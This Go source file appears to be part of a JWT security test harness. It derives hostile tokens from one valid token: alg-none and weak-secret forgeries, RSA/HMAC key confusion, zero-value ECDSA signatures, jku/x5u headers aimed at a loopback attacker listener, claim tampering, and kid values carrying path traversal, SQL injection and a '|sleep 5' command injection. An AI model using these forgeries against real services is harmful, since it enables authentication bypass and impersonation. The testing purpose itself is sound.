package harness

import (
	"bytes"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/golang-jwt/jwt/v5"
)

// Derived hostile tokens: the attacks of the hostile catalogues that need no
// key of the issuer, built from one valid supplied token. Each keeps the
// claims of the valid token (its sub, org_id, scope, exp…) and changes what
// the attack changes: the structure, the header, the signature, or the
// payload under the original signature. Attacks that need a correctly
// signed token with other claims (an expired one, a future iat) cannot be
// derived and return ErrNeedsSigningKey.

// DeriveInput is the material of a derivation.
type DeriveInput struct {
	Token string // a valid supplied token (user A)
	// AttackerURL is the scenario's path on the suite's loopback attacker
	// listener, for the jku and x5u cases; "" when the target is not on
	// loopback (those cases are then not derived).
	AttackerURL string
	// IssuerKeys are the issuer's public keys by kid, found through the
	// discovery chain (Discover), for key confusion.
	IssuerKeys map[string]crypto.PublicKey
}

// parts splits the valid token and decodes its header and payload.
func (in DeriveInput) parts() (h64, p64, s64 string, header, payload map[string]any, err error) {
	p := strings.Split(in.Token, ".")
	if len(p) != 3 {
		return "", "", "", nil, nil, errors.New("the supplied token is not a compact JWS")
	}
	header, err = decodePart(p[0])
	if err != nil {
		return "", "", "", nil, nil, fmt.Errorf("the supplied token's header: %w", err)
	}
	payload, err = decodePart(p[1])
	if err != nil {
		return "", "", "", nil, nil, fmt.Errorf("the supplied token's payload: %w", err)
	}
	return p[0], p[1], p[2], header, payload, nil
}

func decodePart(s string) (map[string]any, error) {
	b, err := base64.RawURLEncoding.DecodeString(s)
	if err != nil {
		return nil, err
	}
	dec := json.NewDecoder(bytes.NewReader(b))
	dec.UseNumber() // numbers re-encode as written
	var m map[string]any
	if err := dec.Decode(&m); err != nil {
		return nil, err
	}
	return m, nil
}

func mustJSON(v any) []byte {
	b, err := json.Marshal(v)
	if err != nil {
		panic("harness: " + err.Error())
	}
	return b
}

// derivation builds one hostile token from the input.
type derivation func(in DeriveInput) (string, error)

// Derivable reports whether the hostile case name (of Hostile or
// JWKSHostile) can be derived from a supplied token without a key.
func Derivable(name string) bool {
	_, ok := derivations[name]
	return ok
}

// Derive builds the hostile case name from in. It returns ErrNeedsSigningKey
// (wrapped) for a case that needs the issuer's key.
func Derive(name string, in DeriveInput) (string, error) {
	d, ok := derivations[name]
	if !ok {
		return "", needKey("the hostile token %q is correctly signed with other claims", name)
	}
	tok, err := d(in)
	if err != nil {
		return "", fmt.Errorf("deriving %q: %w", name, err)
	}
	if tok == in.Token {
		return "", fmt.Errorf("deriving %q: the result is the valid token itself", name)
	}
	return tok, nil
}

// keep returns the valid token changed by f(header part, payload part,
// signature part).
func keep(f func(h, p, s string, header, payload map[string]any) (string, error)) derivation {
	return func(in DeriveInput) (string, error) {
		h, p, s, header, payload, err := in.parts()
		if err != nil {
			return "", err
		}
		return f(h, p, s, header, payload)
	}
}

// withHeader is the valid payload and signature under a new header.
func withHeader(change func(header map[string]any)) derivation {
	return keep(func(_, p, s string, header, _ map[string]any) (string, error) {
		change(header)
		return b64(mustJSON(header)) + "." + p + "." + s, nil
	})
}

// rawHeader is the valid payload and signature under header, as given.
func rawHeader(header string) derivation {
	return keep(func(_, p, s string, _, _ map[string]any) (string, error) {
		return b64([]byte(header)) + "." + p + "." + s, nil
	})
}

// withSig is the valid header and payload with the signature changed.
func withSig(change func(sig []byte) []byte) derivation {
	return keep(func(h, p, s string, _, _ map[string]any) (string, error) {
		sig, err := base64.RawURLEncoding.DecodeString(s)
		if err != nil {
			return "", err
		}
		return h + "." + p + "." + b64(change(sig)), nil
	})
}

// unsignedAs is the valid claims under {"alg": alg} with an empty
// signature (RFC 7515 Appendix A.5).
func unsignedAs(alg string) derivation {
	return keep(func(_, p, _ string, _, _ map[string]any) (string, error) {
		return b64(mustJSON(map[string]string{"alg": alg, "typ": "JWT"})) + "." + p + ".", nil
	})
}

// attackerSigned is the valid claims signed with a key the attacker holds
// (not the issuer's), HS256, with header changes.
func attackerSigned(key []byte, header map[string]any) derivation {
	return keep(func(_, _, _ string, _, payload map[string]any) (string, error) {
		return signJWT(jwt.SigningMethodHS256, key, header, payload)
	})
}

// tamper is the payload with claim set to value under the original header
// and signature (RFC 7515 §5.2 step 8: the signature no longer matches).
func tamper(claim string, value func(old any) any) derivation {
	return keep(func(h, _, s string, _, payload map[string]any) (string, error) {
		payload[claim] = value(payload[claim])
		return h + "." + b64(mustJSON(payload)) + "." + s, nil
	})
}

// TamperClaim is the valid token tok with claim set to value, under the
// original signature: the payload-changed attacks on sub, org_id, scope,
// exp, aud and iss.
func TamperClaim(tok, claim string, value any) (string, error) {
	return tamper(claim, func(any) any { return value })(DeriveInput{Token: tok})
}

// withKeys runs a key-confusion derivation with in.IssuerKeys: the key of
// the valid token's kid when it is of kty, else the first key of kty.
func withKeys(kty string, encode func(crypto.PublicKey) ([]byte, error)) derivation {
	return func(in DeriveInput) (string, error) {
		if len(in.IssuerKeys) == 0 {
			return "", &MaterialError{Need: NeedSigningKey, Reason: "key confusion needs the issuer's public keys: discovery (resource metadata → RFC 8414 metadata → jwks_uri) found none; set tokens.jwks_uri in the profile"}
		}
		return keep(func(_, _, _ string, header, payload map[string]any) (string, error) {
			kid, pub, err := chooseKey(in.IssuerKeys, header, kty)
			if err != nil {
				return "", err
			}
			secret, err := encode(pub)
			if err != nil {
				return "", err
			}
			return signJWT(jwt.SigningMethodHS256, secret, map[string]any{"kid": kid}, payload)
		})(in)
	}
}

func chooseKey(keys map[string]crypto.PublicKey, header map[string]any, kty string) (string, crypto.PublicKey, error) {
	fits := func(k crypto.PublicKey) bool {
		switch k.(type) {
		case *rsa.PublicKey:
			return kty == "RSA"
		case *ecdsa.PublicKey:
			return kty == "EC"
		}
		return false
	}
	if kid, _ := header["kid"].(string); kid != "" {
		if k, ok := keys[kid]; ok && fits(k) {
			return kid, k, nil
		}
	}
	var kids []string
	for kid := range keys {
		kids = append(kids, kid)
	}
	slices.Sort(kids)
	for _, kid := range kids {
		if fits(keys[kid]) {
			return kid, keys[kid], nil
		}
	}
	return "", nil, &MaterialError{Need: NeedSigningKey, Reason: fmt.Sprintf("the issuer publishes no %s key to confuse", kty)}
}

// derivations are the hostile cases, by their catalogue names, that need no
// key of the issuer.
var derivations = map[string]derivation{
	// --- structure ---
	"two segments": keep(func(h, p, _ string, _, _ map[string]any) (string, error) { return h + "." + p, nil }),
	"four segments": keep(func(h, p, s string, _, _ map[string]any) (string, error) {
		return h + "." + p + "." + s + "." + s, nil
	}),
	// The two re-encodings touch the signature only: the signing input (the
	// header and payload text, RFC 7515 §5.2) stays the issuer's, so a
	// verifier that decodes leniently finds the signature valid, and only a
	// base64url check refuses the token (RFC 7515 §2).
	"padded base64": keep(func(h, p, s string, _, _ map[string]any) (string, error) {
		if pad := (4 - len(s)%4) % 4; pad > 0 {
			return h + "." + p + "." + s + strings.Repeat("=", pad), nil
		}
		// A signature of whole 4-character groups takes no padding: pad
		// the payload, which a lenient verifier then refuses for the
		// signature.
		return h + "." + p + "====." + s, nil
	}),
	"standard base64 alphabet": keep(func(h, p, s string, _, _ map[string]any) (string, error) {
		std := strings.NewReplacer("-", "+", "_", "/").Replace(s)
		if std == s {
			return "", &MaterialError{Need: NeedSigningKey, Reason: "the signature of user A's token has no '-' or '_', so it reads the same in the standard alphabet; a token in that alphabet needs the issuer's key"}
		}
		return h + "." + p + "." + std, nil
	}),
	"header not json": keep(func(_, p, s string, header, _ map[string]any) (string, error) {
		return b64(fmt.Appendf(nil, `{alg:%q,typ:"JWT"}`, header["alg"])) + "." + p + "." + s, nil
	}),
	"payload not json": keep(func(h, _, s string, _, payload map[string]any) (string, error) {
		b := mustJSON(payload)
		return h + "." + b64(append(b[:len(b)-1], ",}"...)) + "." + s, nil
	}),
	"payload json array": keep(func(h, _, s string, _, payload map[string]any) (string, error) {
		return h + "." + b64(append(append([]byte("["), mustJSON(payload)...), ']')) + "." + s, nil
	}),
	"jwe compact": keep(func(_, _, _ string, _, payload map[string]any) (string, error) {
		return jweDir(randomBytes(32), mustJSON(payload))
	}),
	"json serialization": keep(func(h, p, s string, _, _ map[string]any) (string, error) {
		return string(mustJSON(map[string]string{"protected": h, "payload": p, "signature": s})), nil
	}),
	"empty token segments": func(DeriveInput) (string, error) { return "..", nil },

	// --- alg ---
	"alg none, no signature": unsignedAs("none"),
	"alg none, with signature": keep(func(_, p, s string, _, _ map[string]any) (string, error) {
		return b64([]byte(`{"alg":"none","typ":"JWT"}`)) + "." + p + "." + s, nil
	}),
	"alg None":                        unsignedAs("None"),
	"alg NONE":                        unsignedAs("NONE"),
	"alg nOnE":                        unsignedAs("nOnE"),
	"alg missing":                     withHeader(func(h map[string]any) { delete(h, "alg") }),
	"alg lowercase hs256":             withHeader(func(h map[string]any) { h["alg"] = "hs256" }),
	"alg HS384":                       withHeader(func(h map[string]any) { h["alg"] = "HS384" }),
	"alg HS512":                       withHeader(func(h map[string]any) { h["alg"] = "HS512" }),
	"duplicate alg keys":              dupAlg(true),
	"duplicate alg keys, HS256 first": dupAlg(false),

	// --- signature ---
	"tampered payload": tamper("org_id", func(old any) any {
		if old == "org-globex" {
			return "org-acme"
		}
		return "org-globex"
	}),
	"truncated signature":             withSig(func(sig []byte) []byte { return sig[:len(sig)/2] }),
	"empty signature":                 withSig(func([]byte) []byte { return nil }),
	"null signature bytes":            withSig(func(sig []byte) []byte { return make([]byte, len(sig)) }),
	"wrong secret":                    func(in DeriveInput) (string, error) { return attackerSigned(randomBytes(32), nil)(in) },
	"weak secret secret":              attackerSigned([]byte("secret"), nil),
	"weak secret password":            attackerSigned([]byte("password"), nil),
	"weak secret empty":               attackerSigned([]byte{}, nil),
	"weak secret changeme":            attackerSigned([]byte("changeme"), nil),
	"weak secret your-256-bit-secret": attackerSigned([]byte("your-256-bit-secret"), nil),

	// --- headers ---
	"crit header":           withHeader(func(h map[string]any) { h["crit"] = []string{"exp"}; h["exp"] = 0 }),
	"embedded jwk":          attackerSigned(AttackerKey, map[string]any{"jwk": attackerJWK()}),
	"jku header":            keyRef("jku"),
	"x5u header":            keyRef("x5u"),
	"kid path traversal":    attackerSigned([]byte{}, map[string]any{"kid": "../../../../../../dev/null"}),
	"kid sql injection":     attackerSigned([]byte("secret"), map[string]any{"kid": "x' UNION SELECT 'secret'--"}),
	"kid command injection": attackerSigned([]byte{}, map[string]any{"kid": "|sleep 5"}),

	// --- size ---
	"huge token": keep(func(h, _, _ string, _, _ map[string]any) (string, error) {
		return h + strings.Repeat(".", 1<<20), nil
	}),
	"oversized valid-looking token": tamper("padding", func(any) any { return strings.Repeat("x", 16<<10) }),

	// --- JWKS mode: key confusion with the discovered public keys ---
	"key confusion: RSA public key as PEM": withKeys("RSA", func(pub crypto.PublicKey) ([]byte, error) {
		der, err := x509.MarshalPKIXPublicKey(pub)
		return pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), err
	}),
	"key confusion: RSA public key as PEM without final newline": withKeys("RSA", func(pub crypto.PublicKey) ([]byte, error) {
		der, err := x509.MarshalPKIXPublicKey(pub)
		return bytes.TrimSuffix(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), []byte("\n")), err
	}),
	"key confusion: RSA public key as PKCS#1 PEM": withKeys("RSA", func(pub crypto.PublicKey) ([]byte, error) {
		return pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: x509.MarshalPKCS1PublicKey(pub.(*rsa.PublicKey))}), nil
	}),
	"key confusion: RSA public key as DER": withKeys("RSA", func(pub crypto.PublicKey) ([]byte, error) {
		return x509.MarshalPKIXPublicKey(pub)
	}),
	"key confusion: RSA public key as JWK JSON": withKeys("RSA", func(pub crypto.PublicKey) ([]byte, error) {
		return json.Marshal(publicJWK(pub))
	}),
	"key confusion: EC public key as PEM": withKeys("EC", func(pub crypto.PublicKey) ([]byte, error) {
		der, err := x509.MarshalPKIXPublicKey(pub)
		return pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), err
	}),
	// --- JWKS mode: signatures and headers that need no key ---
	"psychic signature r=s=0": keep(func(_, p, _ string, header, _ map[string]any) (string, error) {
		return b64(mustJSON(map[string]any{"alg": "ES256", "typ": "JWT", "kid": header["kid"]})) + "." + p + "." + b64(make([]byte, 64)), nil
	}),
	"ES256 signature r=s=n": keep(func(_, p, _ string, header, _ map[string]any) (string, error) {
		n := make([]byte, 32)
		elliptic.P256().Params().N.FillBytes(n)
		return b64(mustJSON(map[string]any{"alg": "ES256", "typ": "JWT", "kid": header["kid"]})) + "." + p + "." + b64(append(n, n...)), nil
	}),
	"alg none, kid of the RSA key": keep(func(_, p, _ string, header, _ map[string]any) (string, error) {
		return b64(mustJSON(map[string]any{"alg": "none", "typ": "JWT", "kid": header["kid"]})) + "." + p + ".", nil
	}),
	"crit header (RS256)":            withHeader(func(h map[string]any) { h["crit"] = []string{"exp"}; h["exp"] = 0 }),
	"kid path traversal (RS256)":     kidSwap("../../../../dev/null"),
	"kid sql injection (RS256)":      kidSwap("x' UNION SELECT 'secret'--"),
	"kid command injection (RS256)":  kidSwap("|sleep 5"),
	"kid of 2000 characters (RS256)": kidSwap(strings.Repeat("k", 2000)),
}

// dupAlg is the valid payload and signature under a header that repeats
// alg: "none" then the token's alg (noneFirst), or the other way round.
func dupAlg(noneFirst bool) derivation {
	return keep(func(_, p, s string, header, _ map[string]any) (string, error) {
		alg, _ := header["alg"].(string)
		h := fmt.Sprintf(`{"alg":%q,"alg":"none","typ":"JWT"}`, alg)
		if noneFirst {
			h = fmt.Sprintf(`{"alg":"none","alg":%q,"typ":"JWT"}`, alg)
		}
		return b64([]byte(h)) + "." + p + "." + s, nil
	})
}

// kidSwap is the valid payload and signature under the token's header with
// a hostile kid: no key matches it, and a lookup must not treat it as a
// path, a query or a command.
func kidSwap(kid string) derivation {
	return withHeader(func(h map[string]any) { h["kid"] = kid })
}

// keyRef points a key-reference header at the attacker listener and signs
// with the attacker's key, which the listener serves.
func keyRef(param string) derivation {
	return func(in DeriveInput) (string, error) {
		if in.AttackerURL == "" {
			return "", &MaterialError{Need: NeedSigningKey, Reason: param + " header: the attacker listener is on loopback, so the case runs only against a target on loopback"}
		}
		return attackerSigned(AttackerKey, map[string]any{param: in.AttackerURL, "kid": AttackerKeyID})(in)
	}
}

// TamperedClaims are the claims whose changes a supplied-token run derives
// under the original signature (the "payload changed" attacks): the token
// is refused for its signature whatever the target thinks of the new value,
// so such a scenario shows that the signature guards the claim, not that
// the target checks it. Time claims other than exp (nbf, iat) are not
// among them: a token not yet valid must be minted.
var TamperedClaims = []string{"sub", "org_id", "scope", "exp", "aud", "iss"}

// tamperedCases are the hostile claim cases derived by tampering.
var tamperedCases = map[string]bool{}

func init() {
	now := func() int64 { return time.Now().Unix() }
	set := func(name, claim string, v func() any) {
		derivations[name] = tamper(claim, func(any) any { return v() })
		tamperedCases[name] = true
	}
	del := func(name, claim string) {
		derivations[name] = keep(func(h, _, s string, _, payload map[string]any) (string, error) {
			delete(payload, claim)
			return h + "." + b64(mustJSON(payload)) + "." + s, nil
		})
		tamperedCases[name] = true
	}
	set("exp in the past", "exp", func() any { return now() - 3600 })
	set("exp just outside leeway", "exp", func() any { return now() - secs(outsideLeeway) })
	del("exp missing", "exp")
	set("exp zero", "exp", func() any { return 0 })
	set("exp null", "exp", func() any { return nil })
	set("exp string", "exp", func() any { return fmt.Sprint(now() + 600) })
	set("exp string in the past", "exp", func() any { return fmt.Sprint(now() - 3600) })
	set("exp duplicated as EXP", "EXP", func() any { return now() + 10*365*24*3600 })
	derivations["exp expired, EXP valid"] = keep(func(h, _, s string, _, payload map[string]any) (string, error) {
		payload["exp"], payload["EXP"] = now()-3600, now()+600
		return h + "." + b64(mustJSON(payload)) + "." + s, nil
	})
	tamperedCases["exp expired, EXP valid"] = true
	set("iss wrong", "iss", func() any { return "https://evil.example" })
	del("iss missing", "iss")
	set("iss number", "iss", func() any { return 42 })
	del("aud missing", "aud")
	derivations["aud wrong case"] = tamper("aud", func(old any) any {
		switch a := old.(type) {
		case string:
			return strings.ToUpper(a)
		case []any:
			out := make([]any, len(a))
			for i, v := range a {
				out[i] = strings.ToUpper(fmt.Sprint(v))
			}
			return out
		}
		return "MCP-SERVER"
	})
	tamperedCases["aud wrong case"] = true
	set("aud empty array", "aud", func() any { return []string{} })
	set("aud number", "aud", func() any { return 42 })
	del("sub missing", "sub")
	del("org_id missing", "org_id")
	derivations["duplicate exp keys"] = keep(func(h, _, s string, _, payload map[string]any) (string, error) {
		delete(payload, "exp")
		p := mustJSON(payload)
		dup := fmt.Sprintf(`{"exp":%d,"exp":%d,`, now()-3600, now()+600)
		if len(p) > 2 {
			p = append([]byte(dup), p[1:]...)
		} else {
			p = []byte(dup[:len(dup)-1] + "}")
		}
		return h + "." + b64(p) + "." + s, nil
	})
	tamperedCases["duplicate exp keys"] = true
}

// IsTampered reports whether the hostile case name is derived by changing
// the payload under the original signature.
func IsTampered(name string) bool { return tamperedCases[name] }

// tamperClaim sets claim to the JSON value raw (or deletes it when del) in
// tok's payload under the original signature.
func tamperClaim(tok, claim string, raw json.RawMessage, remove bool) (string, error) {
	return keep(func(h, _, s string, _, payload map[string]any) (string, error) {
		if remove {
			delete(payload, claim)
		} else {
			v, err := decodeJSONValue(raw)
			if err != nil {
				return "", err
			}
			payload[claim] = v
		}
		return h + "." + b64(mustJSON(payload)) + "." + s, nil
	})(DeriveInput{Token: tok})
}

// The attacker's own RSA key for the RS256 key-reference cases of a
// supplied-token run: generated at run time, once, never the issuer's.
var (
	attackerRSAOnce sync.Once
	attackerRSA     *rsa.PrivateKey
	attackerRSACert []byte
	attackerRSAErr  error
)

func attackerRSAKey() (*rsa.PrivateKey, []byte, error) {
	attackerRSAOnce.Do(func() {
		if attackerRSA, attackerRSAErr = rsa.GenerateKey(rand.Reader, 2048); attackerRSAErr == nil {
			attackerRSACert, attackerRSAErr = selfSigned(attackerRSA)
		}
	})
	return attackerRSA, attackerRSACert, attackerRSAErr
}

// attackerRS256 is the valid claims signed RS256 with the attacker's key,
// under the valid token's kid, with the header parameters refs gives.
func attackerRS256(refs func(in DeriveInput, pub crypto.PublicKey, cert []byte) (map[string]any, error)) derivation {
	return func(in DeriveInput) (string, error) {
		key, cert, err := attackerRSAKey()
		if err != nil {
			return "", err
		}
		return keep(func(_, _, _ string, header, payload map[string]any) (string, error) {
			h, err := refs(in, key.Public(), cert)
			if err != nil {
				return "", err
			}
			if kid, ok := header["kid"]; ok {
				h["kid"] = kid
			}
			return signWith(jwt.SigningMethodRS256, key, h, payload)
		})(in)
	}
}

func init() {
	derivations["embedded jwk (RS256)"] = attackerRS256(func(_ DeriveInput, pub crypto.PublicKey, _ []byte) (map[string]any, error) {
		return map[string]any{"jwk": publicJWK(pub)}, nil
	})
	derivations["embedded x5c (RS256)"] = attackerRS256(func(_ DeriveInput, _ crypto.PublicKey, cert []byte) (map[string]any, error) {
		return map[string]any{"x5c": []string{base64.StdEncoding.EncodeToString(cert)}}, nil
	})
	for _, param := range []string{"jku", "x5u"} {
		derivations[param+" header (RS256)"] = attackerRS256(func(in DeriveInput, _ crypto.PublicKey, _ []byte) (map[string]any, error) {
			if in.AttackerURL == "" {
				return nil, &MaterialError{Need: NeedSigningKey, Reason: param + " header: the attacker listener is on loopback, so the case runs only against a target on loopback"}
			}
			return map[string]any{param: in.AttackerURL}, nil
		})
	}
}
